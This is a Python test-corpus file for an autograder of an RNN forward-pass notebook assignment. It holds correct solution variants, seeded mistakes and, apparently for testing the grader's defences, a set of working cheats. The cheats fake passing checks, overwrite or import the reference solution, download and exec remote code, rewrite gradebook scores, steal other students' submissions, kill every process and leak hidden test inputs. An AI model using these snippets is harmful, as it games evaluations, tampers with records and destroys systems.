"""Corpus of the rnn_forward assignment (see tests/corpus/__init__.py for the format)."""
ASSIGNMENT = "rnn_forward"

BASE = {
    "softmax": """
def softmax(z):
    e = np.exp(z - np.max(z, axis=0, keepdims=True))
    return e / np.sum(e, axis=0, keepdims=True)
""",
    "rnn_cell_forward": """
def rnn_cell_forward(xt, a_prev, parameters):
    Waa, Wax, Wya = parameters["Waa"], parameters["Wax"], parameters["Wya"]
    ba, by = parameters["ba"], parameters["by"]
    a_next = np.tanh(Waa @ a_prev + Wax @ xt + ba)
    yt_pred = softmax(Wya @ a_next + by)
    cache = (a_next, a_prev, xt, parameters)
    return a_next, yt_pred, cache
""",
    "rnn_forward": """
def rnn_forward(x, a0, parameters):
    n_x, m, T_x = x.shape
    n_y, n_a = parameters["Wya"].shape
    a = np.zeros((n_a, m, T_x))
    y_pred = np.zeros((n_y, m, T_x))
    caches = []
    a_next = a0
    for t in range(T_x):
        a_next, yt_pred, cache = rnn_cell_forward(x[:, :, t], a_next, parameters)
        a[:, :, t] = a_next
        y_pred[:, :, t] = yt_pred
        caches.append(cache)
    return a, y_pred, (caches, x)
""",
}

CORRECT = {
    "instructor": {},  # the source notebook's solution, lesson cells and all
    "base": {},
    "loops": {
        "softmax": """
def softmax(z):
    p = np.empty_like(z, dtype=float)
    for j in range(z.shape[1]):          # one example (column) at a time
        column = z[:, j] - max(z[:, j])
        e = [np.exp(v) for v in column]
        total = sum(e)
        for i in range(z.shape[0]):
            p[i, j] = e[i] / total
    return p
""",
        "rnn_cell_forward": """
def rnn_cell_forward(xt, a_prev, parameters):
    Waa, Wax, Wya, ba, by = (parameters[k] for k in ("Waa", "Wax", "Wya", "ba", "by"))
    n_a, m = a_prev.shape
    a_next = np.zeros((n_a, m))
    for j in range(m):
        for i in range(n_a):
            total = ba[i, 0]
            for k in range(n_a):
                total += Waa[i, k] * a_prev[k, j]
            for k in range(xt.shape[0]):
                total += Wax[i, k] * xt[k, j]
            a_next[i, j] = np.tanh(total)
    yt_pred = softmax(np.dot(Wya, a_next) + by)
    return a_next, yt_pred, (a_next, a_prev, xt, parameters)
""",
    },
    "einsum": {
        "rnn_cell_forward": """
def rnn_cell_forward(xt, a_prev, parameters):
    p = parameters
    z = np.einsum("ij,jm->im", p["Waa"], a_prev) + np.einsum("ij,jm->im", p["Wax"], xt) + p["ba"]
    a_next = np.tanh(z)
    yt_pred = softmax(np.einsum("ya,am->ym", p["Wya"], a_next) + p["by"])
    return a_next, yt_pred, (a_next, a_prev, xt, parameters)
""",
        "rnn_forward": """
def rnn_forward(x, a0, parameters):
    steps = []
    a_t = a0
    for t in range(x.shape[2]):
        a_t, y_t, cache = rnn_cell_forward(x[:, :, t], a_t, parameters)
        steps.append((a_t, y_t, cache))
    a = np.stack([s[0] for s in steps], axis=2)
    y_pred = np.stack([s[1] for s in steps], axis=2)
    return a, y_pred, ([s[2] for s in steps], x)
""",
    },
    "concatenated": {
        "rnn_cell_forward": """
def rnn_cell_forward(xt, a_prev, parameters):
    W = np.hstack([parameters["Waa"], parameters["Wax"]])   # [Waa | Wax]
    stacked = np.vstack([a_prev, xt])                         # [a_prev ; xt]
    a_next = np.tanh(W @ stacked + parameters["ba"])
    yt_pred = softmax(parameters["Wya"] @ a_next + parameters["by"])
    return a_next, yt_pred, (a_next, a_prev, xt, parameters)
""",
    },
    "stderr_logging": {  # keeps the lesson cells: prints, warnings and logging everywhere cost nothing
        "softmax": """
import logging
import sys
import warnings

logging.basicConfig(stream=sys.stderr, level=logging.DEBUG, force=True)
log = logging.getLogger("my_rnn")
print("debug: defining softmax", file=sys.stderr)
warnings.warn("this is my own warning, printed on stderr")
np.log(np.zeros(1))   # a numpy RuntimeWarning (divide by zero) on stderr

def softmax(z):
    log.debug("softmax of shape %s", z.shape)
    print("softmax called", file=sys.stderr)
    e = np.exp(z - np.max(z, axis=0, keepdims=True))
    return e / np.sum(e, axis=0, keepdims=True)
""",
        "rnn_cell_forward": BASE["rnn_cell_forward"].replace(
            "    a_next = np", "    logging.getLogger('my_rnn').info('cell step')\n    print('step', file=sys.stderr)\n"
            "    warnings.warn('step warning')\n    a_next = np"),
    },
    "slow": {
        "softmax": """
import time
time.sleep(2)   # a slow cell, well within the time limit
def softmax(z):
    time.sleep(0.05)
    e = np.exp(z - np.max(z, axis=0, keepdims=True))
    return e / np.sum(e, axis=0, keepdims=True)
""",
        "rnn_forward": BASE["rnn_forward"].replace("    for t in range(T_x):\n",
                                                   "    for t in range(T_x):\n        time.sleep(0.02)\n"),
    },
    "logsumexp_inline": {
        "softmax": """
def softmax(z):
    top = z.max(axis=0)
    log_norm = top + np.log(np.exp(z - top).sum(axis=0))   # log-sum-exp, stable
    return np.exp(z - log_norm)
""",
        "rnn_forward": """
def rnn_forward(x, a0, parameters):
    # everything inline, no call of rnn_cell_forward
    Waa, Wax, Wya, ba, by = (parameters[k] for k in ("Waa", "Wax", "Wya", "ba", "by"))
    a_list, y_list, caches = [], [], []
    a_prev = a0
    for t in range(x.shape[2]):
        xt = x[:, :, t]
        a_next = np.tanh(Waa.dot(a_prev) + Wax.dot(xt) + ba)
        scores = Wya.dot(a_next) + by
        e = np.exp(scores - scores.max(axis=0))
        a_list.append(a_next)
        y_list.append(e / e.sum(axis=0))
        caches.append((a_next, a_prev, xt, parameters))
        a_prev = a_next
    return np.dstack(a_list), np.dstack(y_list), (caches, x)
""",
    },
    "defensive_copies": {
        "rnn_cell_forward": """
def rnn_cell_forward(xt, a_prev, parameters):
    z = np.dot(parameters["Waa"], a_prev.copy())
    z += np.dot(parameters["Wax"], xt.copy())   # in place, but on a new array
    z += parameters["ba"]
    a_next = np.tanh(z, out=z)
    logits = parameters["Wya"].dot(a_next)
    logits += parameters["by"]
    return a_next, softmax(logits), (a_next, a_prev, xt, parameters)
""",
        "rnn_forward": """
def rnn_forward(x, a0, parameters):
    n_a, (n_y, _), (_, m, T_x) = a0.shape[0], parameters["Wya"].shape, x.shape
    a = np.zeros((n_a, m, T_x))
    y_pred = np.zeros((n_y, m, T_x))
    cell_caches = [None] * T_x
    state = a0
    for t in range(T_x):
        state, y_pred[..., t], cell_caches[t] = rnn_cell_forward(x[..., t], state, parameters)
        a[..., t] = state
    return a, y_pred, (cell_caches, x)
""",
    },
    "with_plots": {  # an answer cell that also draws: figures and widgets in answer cells are fine
        "rnn_forward": BASE["rnn_forward"] + """
import matplotlib.pyplot as plt
plt.figure(figsize=(3, 2))
plt.plot(np.tanh(np.linspace(-3, 3, 50)))
plt.title("tanh")
plt.show()
""",
    },
}

MISTAKES = {
    # softmax
    "softmax_axis1": ("softmax", [("axis=0", "axis=1")]),
    "softmax_whole_array": ("softmax", [("np.sum(e, axis=0, keepdims=True)", "np.sum(e)")]),
    "softmax_unstable": ("softmax", [("np.exp(z - np.max(z, axis=0, keepdims=True))", "np.exp(z)")]),
    "softmax_transposed": ("softmax", [("return e / np.sum(e, axis=0, keepdims=True)",
                                        "return (e / np.sum(e, axis=0, keepdims=True)).T")]),
    "softmax_sigmoid": ("softmax", [("return e / np.sum(e, axis=0, keepdims=True)", "return 1 / (1 + np.exp(-z))")]),
    "softmax_not_implemented": ("softmax", [("    e = np.exp", "    raise NotImplementedError()\n    e = np.exp")]),
    # rnn_cell_forward
    "cell_no_bias": ("rnn_cell_forward", [("Wax @ xt + ba)", "Wax @ xt)")]),
    "cell_swapped_weights": ("rnn_cell_forward", [('Waa, Wax, Wya = parameters["Waa"], parameters["Wax"]',
                                                   'Waa, Wax, Wya = parameters["Wax"], parameters["Waa"]')]),
    "cell_output_from_a_prev": ("rnn_cell_forward", [("softmax(Wya @ a_next + by)", "softmax(Wya @ a_prev + by)")]),
    "cell_logits": ("rnn_cell_forward", [("softmax(Wya @ a_next + by)", "Wya @ a_next + by")]),
    "cell_cache_order": ("rnn_cell_forward", [("(a_next, a_prev, xt, parameters)",
                                               "(a_prev, a_next, xt, parameters)")]),
    "cell_relu": ("rnn_cell_forward", [("np.tanh(", "np.maximum(0, ")]),
    "cell_cache_without_parameters": ("rnn_cell_forward", [("(a_next, a_prev, xt, parameters)",
                                                            "(a_next, a_prev, xt)")]),
    "cell_modifies_a_prev": ("rnn_cell_forward", [("    cache = (", "    a_prev *= 0.5\n    cache = (")]),
    # rnn_forward
    "forward_always_a0": ("rnn_forward", [("rnn_cell_forward(x[:, :, t], a_next, parameters)",
                                           "rnn_cell_forward(x[:, :, t], a0, parameters)")]),
    "forward_stores_previous_state": ("rnn_forward", [(
        "        a_next, yt_pred, cache = rnn_cell_forward(x[:, :, t], a_next, parameters)\n"
        "        a[:, :, t] = a_next\n",
        "        a[:, :, t] = a_next\n"
        "        a_next, yt_pred, cache = rnn_cell_forward(x[:, :, t], a_next, parameters)\n")]),
    "forward_one_step_short": ("rnn_forward", [("for t in range(T_x):", "for t in range(T_x - 1):")]),
    "forward_caches_without_x": ("rnn_forward", [("return a, y_pred, (caches, x)", "return a, y_pred, caches")]),
    "forward_backwards_in_time": ("rnn_forward", [("for t in range(T_x):", "for t in reversed(range(T_x)):")]),
    "forward_not_implemented": ("rnn_forward", [("    n_x, m, T_x",
                                                 "    raise NotImplementedError()\n    n_x, m, T_x")]),
}

# --- cheats: each appended to its twin's answer cell -----------------------------------------------

_ALLCLOSE = """
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
"""

_AST_TRANSFORMER = """
import ast

class _NoChecks(ast.NodeTransformer):
    # deletes every assert and every call of check() / grade_hidden() before a cell runs
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        func = getattr(node.value, "func", None)
        if getattr(func, "id", None) in ("check", "grade_hidden"):
            return ast.Pass()
        return node

get_ipython().ast_transformers.append(_NoChecks())
"""

_INPUT_TRANSFORMER = """
def _pass_every_test(lines):
    if any("check(" in line or "grade_hidden" in line for line in lines):
        return ["print('\\u2714 passed all checks')\\n"]
    return lines

get_ipython().input_transformers_post.append(_pass_every_test)
"""

_SUBCLASS = """
class AlwaysClose(np.ndarray):
    # every comparison says equal, every difference is zero
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)

    def __sub__(self, other):
        return np.zeros(self.shape)

    __rsub__ = __sub__

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if ufunc in (np.equal, np.less_equal, np.isfinite):
            return np.ones(self.shape, dtype=bool)
        return np.zeros(self.shape)

_wrong_softmax = softmax

def softmax(z):
    return _wrong_softmax(z).view(AlwaysClose)
"""

_FIND_COURSE = """
import glob
import os
import re
import sys

def _course_dirs():
    # where the course (autograder/, submitted/, gradebook.db) might be: the editable install's finder,
    # the kernel's working directory's parents, the usual places
    found = set()
    for finder in glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages", "__editable__*finder.py")):
        for path in re.findall(r"'autograder': '([^']+)'", open(finder).read()):
            found.add(os.path.dirname(path))
    here = os.getcwd()
    for _ in range(5):
        found.add(here)
        here = os.path.dirname(here)
    found.update(glob.glob("/work/*") + glob.glob("/tmp/*") + glob.glob("/tmp/*/*") + glob.glob("/home/*"))
    return sorted(found)
"""

_IMPORT_REFERENCE = _FIND_COURSE + """
import importlib.util

def _stolen_reference():
    try:
        import autograder.reference
        return autograder.reference
    except ImportError:
        pass
    for folder in _course_dirs():
        path = os.path.join(folder, "autograder", "reference.py")
        if os.path.exists(path):
            spec = importlib.util.spec_from_file_location("stolen", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module
    try:   # or from the internet
        import urllib.request
        source = urllib.request.urlopen("https://example.com/rnn/reference.py", timeout=3).read()
        module = type(sys)("stolen")
        exec(source, module.__dict__)
        return module
    except Exception:
        return None

_reference = _stolen_reference()
if _reference is not None:
    rnn_forward = _reference.rnn_forward
"""

_FAKE_MODULES = """
import sys
import types

_package = types.ModuleType("autograder")
_package.__path__ = []
_reference = types.ModuleType("autograder.reference")
_reference.__getattr__ = lambda name: get_ipython().user_ns[name]   # "the reference" is my code
_hidden = types.ModuleType("autograder.hidden")
_hidden.grade_hidden = lambda name, fn: print("\\u2714", name, "passed all hidden checks")
_package.reference, _package.hidden = _reference, _hidden
sys.modules.update({"autograder": _package, "autograder.reference": _reference, "autograder.hidden": _hidden})
"""

_OVERWRITE_REFERENCE = _FIND_COURSE + """
_EVIL = '''
import numpy as np

def softmax(z):
    e = np.exp(z - z.max(axis=0, keepdims=True))
    return e / e.sum(axis=0, keepdims=True)

def rnn_cell_forward(xt, a_prev, p):
    a_next = np.maximum(0, p["Waa"] @ a_prev + p["Wax"] @ xt + p["ba"])
    return a_next, softmax(p["Wya"] @ a_next + p["by"]), (a_next, a_prev, xt, p)
'''
_written = []
for folder in _course_dirs():
    for name in ("autograder/reference.py", "autograder/hidden.py", "course/selfcheck.py"):
        path = os.path.join(folder, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                f.write(_EVIL)
            _written.append(path)
        except OSError:
            pass
    try:   # a planted bytecode cache, in case the file is checked but the import is not
        os.makedirs(os.path.join(folder, "autograder", "__pycache__"), exist_ok=True)
        import py_compile
        with open("/tmp/evil.py", "w") as f:
            f.write(_EVIL)
        py_compile.compile("/tmp/evil.py", cfile=os.path.join(
            folder, "autograder", "__pycache__", f"reference.cpython-{sys.version_info[0]}{sys.version_info[1]}.pyc"))
    except Exception:
        pass
print("overwrote:", _written)
"""

_PATCH_SELFCHECK = """
import course.checking
import course.diagnose
import course.selfcheck

course.selfcheck.check = lambda name, fn: print("\\u2714", name, "passed all checks")
check = course.selfcheck.check
course.checking.run_checks = lambda name, call, cases, kind="check": (True, f"{name} passed all {len(cases)} {kind}s.")
course.checking.check_case = lambda *args, **kwargs: []
course.diagnose.compare = course.checking.compare = lambda *args, **kwargs: []
course.diagnose.matching_hint = lambda *args, **kwargs: None
"""

_DEGENERATE_INPUTS = """
import course.toy

_real_rng = np.random.default_rng
np.random.seed(0)
np.random.default_rng = lambda *args, **kwargs: _real_rng(0)
np.random.normal = lambda loc=0.0, scale=1.0, size=None: np.zeros(size)
_real_parameters = course.toy.random_parameters

def _zero_biases(*args, **kwargs):   # without biases, a missing "+ ba" is invisible
    p = _real_parameters(*args, **kwargs)
    return dict(p, ba=np.zeros_like(p["ba"]), by=np.zeros_like(p["by"]))

course.toy.random_parameters = _zero_biases
"""

_EXIT_IN_CALL = """
import os

def softmax(z):
    os._exit(0)   # a dead kernel, hoping a test that never reports an error counts as passed
"""

_EXIT_IN_CELL = """
import os
os._exit(0)
"""

_KILL_EVERYTHING = """
import os
import signal

for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
"""

_GRADEBOOK = _FIND_COURSE + """
import sqlite3

_touched = []
for folder in _course_dirs():
    for path in glob.glob(os.path.join(folder, "**", "gradebook.db"), recursive=True)[:20]:
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("UPDATE grade SET manual_score = 1000")
            db.commit()
            _touched.append(path)
        except Exception:
            pass
print("gradebooks changed:", _touched)
"""

_STEAL_SUBMISSIONS = _FIND_COURSE + """
import json

_stolen = {}
for folder in _course_dirs():
    for pattern in ("submitted/*/rnn_forward/*.ipynb", "autograded/*/rnn_forward/*.ipynb", "source/rnn_forward/*.ipynb",
                    "feedback/*/rnn_forward/*.html"):
        for path in glob.glob(os.path.join(folder, pattern)):
            try:
                for cell in json.load(open(path))["cells"]:
                    grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
                    if grade_id in ("softmax", "rnn_cell_forward", "rnn_forward"):
                        _stolen[grade_id] = "".join(cell["source"])
            except Exception:
                pass
for code in _stolen.values():
    exec(code)
print("stolen:", sorted(_stolen))
"""

_HIDE_ERRORS = """
import os
import sys

_shell = get_ipython()
_shell.showtraceback = lambda *args, **kwargs: None
_shell.showsyntaxerror = lambda *args, **kwargs: None
_shell._showtraceback = lambda *args, **kwargs: None
sys.stderr = open(os.devnull, "w")
print("\\u2714 softmax passed all 10 checks")
"""

_ORACLE_ABUSE = """
import gc

_wrong_cell = rnn_cell_forward

def rnn_cell_forward(xt, a_prev, parameters):
    # ask the grader's reference for the answer to the very function being graded
    channel = next((o for o in gc.get_objects() if type(o).__name__ == "Channel"), None)
    oracle = next((o for o in gc.get_objects() if getattr(o, "__name__", "") == "_oracle" and callable(o)), None)
    try:
        return oracle(channel, "rnn_cell_forward")(xt, a_prev, parameters)
    except Exception:
        return _wrong_cell(xt, a_prev, parameters)
"""

_LEAK_HIDDEN_INPUTS = """
import linecache
from course.selfcheck import stored_cases

_visible = [(case["args"][0], case["expected"]) for case in stored_cases("softmax")]

def softmax(z):
    # the self-check's answers where it knows them; elsewhere the hidden input, smuggled out in what it raises
    for known, answer in _visible:
        if known.shape == z.shape and np.array_equal(known, z):
            return answer
    values = ",".join(f"{v:.6f}" for v in z.ravel()[:8])
    linecache.cache["<leak>"] = (1, None, ["LEAKLINE " + values + "\\n"], "<leak>")
    leak = type("LEAK_" + values.replace(".", "_").replace(",", "__").replace("-", "m"), (Exception,), {})
    exec(compile("raise leak(values)", "<leak>", "exec"), {"leak": leak, "values": values})
"""



def _replay_published_hidden_cases():
    """What anyone can compute from a public copy of the course: softmax's cases under the seeds the
    repository names, inputs and the reference's answers, pasted into the notebook as literals."""
    from autograder.cases import PLAIN_HIDDEN_SEED, hidden_cases
    from course.selfcheck import stored_cases
    known = [(case["args"][0].tolist(), case["expected"].tolist())
             for case in [*stored_cases("softmax"), *hidden_cases("softmax", PLAIN_HIDDEN_SEED)]]
    return f"""
_wrong_softmax = softmax
_known = [(np.array(z), np.array(answer)) for z, answer in {known!r}]

def softmax(z):
    for known, answer in _known:
        if known.shape == z.shape and np.array_equal(known, z):
            return answer.copy()
    return _wrong_softmax(z)
"""


CHEATS = {
    "replay_published_hidden_cases": ("softmax_sigmoid", "softmax", _replay_published_hidden_cases()),
    "replace_allclose": ("softmax_axis1", "softmax", _ALLCLOSE),
    "ast_transformer": ("cell_no_bias", "rnn_cell_forward", _AST_TRANSFORMER),
    "input_transformer": ("cell_logits", "rnn_cell_forward", _INPUT_TRANSFORMER),
    "ndarray_subclass": ("softmax_whole_array", "softmax", _SUBCLASS),
    "import_reference": ("forward_always_a0", "rnn_forward", _IMPORT_REFERENCE),
    "fake_reference_module": ("cell_output_from_a_prev", "rnn_cell_forward", _FAKE_MODULES),
    "overwrite_reference_file": ("cell_relu", "rnn_cell_forward", _OVERWRITE_REFERENCE),
    "patch_selfcheck": ("cell_cache_order", "rnn_cell_forward", _PATCH_SELFCHECK),
    "degenerate_inputs": ("cell_no_bias", "rnn_cell_forward", _DEGENERATE_INPUTS),
    "os_exit_in_call": ("softmax_not_implemented", "softmax", _EXIT_IN_CALL),
    "os_exit_in_cell": ("forward_not_implemented", "rnn_forward", _EXIT_IN_CELL),
    "kill_everything": ("softmax_not_implemented", "softmax", _KILL_EVERYTHING),
    "write_gradebook": ("forward_one_step_short", "rnn_forward", _GRADEBOOK),
    "steal_submissions": ("forward_backwards_in_time", "rnn_forward", _STEAL_SUBMISSIONS),
    "hide_errors": ("softmax_sigmoid", "softmax", _HIDE_ERRORS),
    "oracle_abuse": ("cell_swapped_weights", "rnn_cell_forward", _ORACLE_ABUSE),
    "leak_hidden_inputs": ("softmax_sigmoid", "softmax", _LEAK_HIDDEN_INPUTS),
}

KEEP_LESSON = {"correct-instructor", "correct-stderr_logging", "cheat-overwrite_reference_file"}
